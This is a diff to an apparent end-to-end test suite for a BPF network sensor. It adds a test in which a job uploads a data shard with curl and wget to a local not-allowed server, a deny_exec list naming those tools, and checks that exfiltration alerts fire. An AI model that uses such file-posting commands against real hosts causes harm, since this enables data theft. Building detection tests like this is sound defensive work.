@@ -1,7 +1,9 @@
 """Network sensor, end to end: real BPF hooks at the cgroup v2 root, real
 sockets to servers this test starts on 127.0.0.1 and [::1] (ports the kernel
-picks). Scenarios A2, A10, A11, A12 of scenarios.md, and that an unrelated
-process's connections are not reported."""
+picks). Scenarios A1, A2, A10, A11, A12 of scenarios.md, connections a job
+accepts, and that an unrelated process's connections are not reported.
+(DNS: test_dns.py.)"""
+import http.server
 import json
 import os
 import socket
@@ -67,6 +69,35 @@ class SinkServer:
         self.thread.join(timeout=5)
 
 
+class PostServer:
+    """An HTTP server that takes POSTs and remembers the bodies' sizes."""
+
+    def __init__(self):
+        bodies = self.bodies = []
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_POST(self):
+                n = int(self.headers.get("Content-Length", 0))
+                body = self.rfile.read(n)
+                bodies.append((self.headers.get("User-Agent", ""), len(body)))
+                self.send_response(200)
+                self.send_header("Content-Length", "2")
+                self.end_headers()
+                self.wfile.write(b"ok")
+
+            def log_message(self, *args):
+                pass
+
+        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.port = self.httpd.server_address[1]
+        self.thread = threading.Thread(target=self.httpd.serve_forever, kwargs={"poll_interval": 0.1}, daemon=True)
+        self.thread.start()
+
+    def close(self):
+        self.httpd.shutdown()
+        self.httpd.server_close()
+
+
 def net_events(events, job=None, op=None, dport=None, pid=None):
     out = []
     for e in events:
@@ -119,8 +150,10 @@ class NetworkSensorTest(unittest.TestCase):
         cls.denied4 = SinkServer(socket.AF_INET, "127.0.0.1")
         cls.allowed6 = SinkServer(socket.AF_INET6, "::1")
         cls.denied6 = SinkServer(socket.AF_INET6, "::1")
+        cls.http = PostServer()
         egress = (f'network:\n  egress: ["127.0.0.1/32:{cls.allowed4.port}", "[::1]/128:{cls.allowed6.port}"]\n'
-                  f'  max_bytes_per_destination: "{MAX_BYTES}"\n')
+                  f'  max_bytes_per_destination: "{MAX_BYTES}"\n'
+                  'process:\n  deny_exec: ["**/curl", "**/wget"]\n')
         mon = cls.t.policy(name="ft", mode="monitor", extra=egress)
         enf = cls.t.policy(name="enf", mode="enforce", extra=egress).replace(
             "fts-kt-launcher", "fts-kt-launcher-enf")
@@ -129,7 +162,7 @@ class NetworkSensorTest(unittest.TestCase):
     @classmethod
     def tearDownClass(cls):
         cls.d.cleanup()
-        for s in (cls.allowed4, cls.denied4, cls.allowed6, cls.denied6):
+        for s in (cls.allowed4, cls.denied4, cls.allowed6, cls.denied6, cls.http):
             s.close()
         cls.t.cleanup()
 
@@ -386,6 +419,97 @@ print(json.dumps([a.getsockname()[1], b.getsockname()[1]]))
             self.assertEqual(len(binds), 1, binds)
             self.assertEqual(binds[0]["network"].get("sport", 0), 0)  # asked for any port (0: omitted)
             self.assertEqual(binds[0]["network"]["cookie"], n["cookie"])
+
+    def test_a1_curl_and_wget_post_a_shard_to_a_not_allowed_server(self):
+        shard = self.t.shards[1]
+        url = f"http://127.0.0.1:{self.http.port}/upload"
+        code = """
+import subprocess, sys
+shard, url = sys.argv[1], sys.argv[2]
+subprocess.run(['curl', '-sS', '-o', '/dev/null', '--data-binary', '@' + shard, url], check=True, timeout=30)
+subprocess.run(['wget', '-q', '-O', '/dev/null', '--post-file=' + shard, url], check=True, timeout=30)
+"""
+        job, _ = run_job(self.d, "ft", code, shard, url)
+        size = os.path.getsize(shard)
+        self.assertEqual(sorted(n for _, n in self.http.bodies[-2:]), [size, size])
+        want = {("transfer-tool-exec", "curl"), ("transfer-tool-exec", "wget"), ("egress-not-allowed", "curl"),
+                ("egress-not-allowed", "wget"), ("exfil-chain", "curl"), ("exfil-chain", "wget")}
+
+        def got(evs):
+            al = [x for x in evs if "rule" in x and x.get("job", {}).get("id") == job]
+            return al if {(x["rule"], os.path.basename(x["process"]["exe"])) for x in al} >= want else None
+        self.d.wait_for(got, what="A1 alerts")
+        time.sleep(1)  # anything else it would raise is out by now
+        al = got(self.d.events())
+        self.assertEqual(sorted((x["rule"], os.path.basename(x["process"]["exe"])) for x in al), sorted(want))
+        for x in al:
+            if x["rule"] != "transfer-tool-exec":
+                self.assertEqual((x["network"]["daddr"], x["network"]["dport"]), ("127.0.0.1", self.http.port))
+            if x["rule"] == "exfil-chain":
+                self.assertIn(shard, x["message"])
+
+    def test_connections_a_job_accepts_are_reported_with_what_it_sent_back(self):
+        code = """
+import socket, sys
+out = sys.argv[1]
+ls = []
+for fam, host in ((socket.AF_INET, '127.0.0.1'), (socket.AF_INET6, '::1')):
+    s = socket.socket(fam, socket.SOCK_STREAM)
+    s.bind((host, 0))
+    s.listen(4)
+    ls.append(s)
+with open(out + '.tmp', 'w') as f:
+    f.write(' '.join(str(s.getsockname()[1]) for s in ls))
+import os
+os.rename(out + '.tmp', out)
+for s, n in zip(ls, (5000, 7000)):
+    s.settimeout(20)
+    c, _ = s.accept()
+    c.sendall(b'r' * n)
+    c.close()
+"""
+        ports_file = os.path.join(self.d.tmp, f"accept-{time.time_ns()}")
+        p = subprocess.Popen([harness.CLI, "--socket", self.d.socket, "run", "--policy", "ft", "--", PY, "-c", code,
+                              ports_file], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+        try:
+            deadline = time.time() + 20
+            while not os.path.exists(ports_file):
+                self.assertLess(time.time(), deadline, "the job did not listen")
+                time.sleep(0.05)
+            p4, p6 = (int(x) for x in open(ports_file).read().split())
+            peers = {}
+            for host, port, n in (("127.0.0.1", p4, 5000), ("::1", p6, 7000)):
+                c = socket.create_connection((host, port), timeout=20)
+                peers[host] = c.getsockname()[1]
+                got = b""
+                while len(got) < n:
+                    b = c.recv(65536)
+                    if not b:
+                        break
+                    got += b
+                c.close()
+                self.assertEqual(len(got), n)
+            _, err = p.communicate(timeout=30)
+            self.assertEqual(p.returncode, 0, err)
+        finally:
+            if p.poll() is None:
+                p.kill()
+                p.wait()
+        job = err.split("job ")[1].split()[0]
+        for host, port, n in (("127.0.0.1", p4, 5000), ("::1", p6, 7000)):
+            acc = self.d.wait_for(lambda evs: [e for e in net_events(evs, job=job, op="accept")
+                                               if e["network"]["sport"] == port] or None, what=f"accept on {port}")
+            self.assertEqual(len(acc), 1)
+            a = acc[0]["network"]
+            self.assertEqual((a["saddr"], a["daddr"], a["dport"], a["protocol"], a["direction"]),
+                             (host, host, peers[host], "tcp", "inbound"))
+            self.assertNotIn("verdict", a)  # the egress list judges where the job goes, not who comes
+            flow = self.d.wait_for(lambda evs: [e for e in net_events(evs, job=job, op="flow")
+                                                if e["network"]["cookie"] == a["cookie"]] or None,
+                                   what=f"the accepted flow on {port}")
+            f = flow[0]["network"]
+            self.assertEqual((int(f["bytes"]), f["direction"], f["daddr"], f["dport"]), (n, "inbound", host, peers[host]))
+        self.assertEqual([x["rule"] for x in self.d.events() if "rule" in x and x.get("job", {}).get("id") == job], [])
 
     def test_unrelated_process_connections_are_not_reported(self):
         p = subprocess.run([PY, "-c", SEND, "127.0.0.1", str(self.denied4.port), self.t.shards[0], "3"],
